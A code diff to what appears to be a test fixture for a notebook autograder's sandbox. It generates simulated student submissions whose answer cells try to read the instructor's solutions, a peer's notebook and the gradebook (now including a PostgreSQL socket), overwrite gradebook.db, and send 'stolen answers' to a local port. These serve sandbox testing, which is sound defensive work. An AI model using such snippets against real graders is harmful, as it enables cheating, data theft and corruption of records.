@@ -100,9 +100,12 @@ def _attack(body: str) -> str:
     return ATTACK.format(body="\n".join("    " + line for line in body.strip().splitlines()))
 
 
-def malicious(assignment: str, course: Path, workspace: Path, peer: str, port: int, token: str) -> dict[str, str]:
+def malicious(assignment: str, course: Path, workspace: Path, peer: str, port: int, token: str,
+              gradebook: str | None = None) -> dict[str, str]:
     """Answer-cell code for each malicious kind: each tries to get at
-    something outside its sandbox and, if it can, uses it to score."""
+    something outside its sandbox and, if it can, uses it to score.
+    ``gradebook`` is a PostgreSQL URL when the gradebook is on a server:
+    the thief then tries the server's socket instead of the file."""
     steal = ('cells = [c for c in nb["cells"] if c["cell_type"] == "code" and '
              'c["metadata"].get("nbgrader", {}).get("solution")]\n'
              'code = "\\n".join("".join(c["source"]) for c in cells)\n'
@@ -111,10 +114,7 @@ def malicious(assignment: str, course: Path, workspace: Path, peer: str, port: i
     peer_nb = workspace / "submitted" / peer / assignment / f"{assignment}.ipynb"
     return {
         "steal-instructor": _attack(f'nb = json.loads(pathlib.Path({str(solution)!r}).read_text())\n{steal}'),
-        "steal-gradebook": _attack(
-            f'db = sqlite3.connect("file:{workspace / "gradebook.db"}?mode=ro", uri=True)\n'
-            'hidden = db.execute("SELECT source FROM source_cell").fetchall()\n'
-            'print(len(hidden), "cells read")'),
+        "steal-gradebook": _attack(_steal_gradebook(workspace, gradebook)),
         "steal-peer": _attack(f'nb = json.loads(pathlib.Path({str(peer_nb)!r}).read_text())\n{steal}'),
         "write-outside": _attack(
             f'pathlib.Path({str(workspace / "gradebook.db")!r}).write_bytes(b"corrupted")\n'
@@ -123,6 +123,16 @@ def malicious(assignment: str, course: Path, workspace: Path, peer: str, port: i
             f's = socket.create_connection(("127.0.0.1", {port}), timeout=2)\n'
             's.sendall(b"stolen answers")'),
     }
+
+
+def _steal_gradebook(workspace: Path, gradebook: str | None) -> str:
+    if gradebook is None:
+        return (f'db = sqlite3.connect("file:{workspace / "gradebook.db"}?mode=ro", uri=True)\n'
+                'hidden = db.execute("SELECT source FROM source_cell").fetchall()\n'
+                'print(len(hidden), "cells read")')
+    server = Path(gradebook.rpartition("host=")[2]) / ".s.PGSQL.5432"  # the server's Unix socket
+    return (f's = socket.socket(socket.AF_UNIX)\ns.connect({str(server)!r})\n'
+            'print("connected to the gradebook\'s server")')
 
 
 ANYTHING = """
@@ -330,7 +340,8 @@ def _bad(kind: str, assignment: Assignment) -> tuple[str, bytes, Expect]:
     raise ValueError(kind)
 
 
-def build(course: Path, workspace: Path, port: int, token: str, learners: int = 41) -> Cohort:
+def build(course: Path, workspace: Path, port: int, token: str, learners: int = 41,
+          gradebook: str | None = None) -> Cohort:
     """The cohort: learner i has one special kind (bad or malicious) on one
     assignment and standard submissions on the others; the last learner
     sends nothing."""
@@ -345,7 +356,7 @@ def build(course: Path, workspace: Path, port: int, token: str, learners: int = 
                 kind = specials[i]
                 if kind in MALICIOUS_KINDS:
                     peer = roster[len(specials)]  # a standard learner
-                    attack = malicious(name, course, workspace, peer, port, token)[kind]
+                    attack = malicious(name, course, workspace, peer, port, token, gradebook)[kind]
                     answers = {f"q{k}_answer": attack for k in range(1, 6)}
                     filename = f"{name}.ipynb"
                     content = _bytes(_notebook(name, answers, {}))
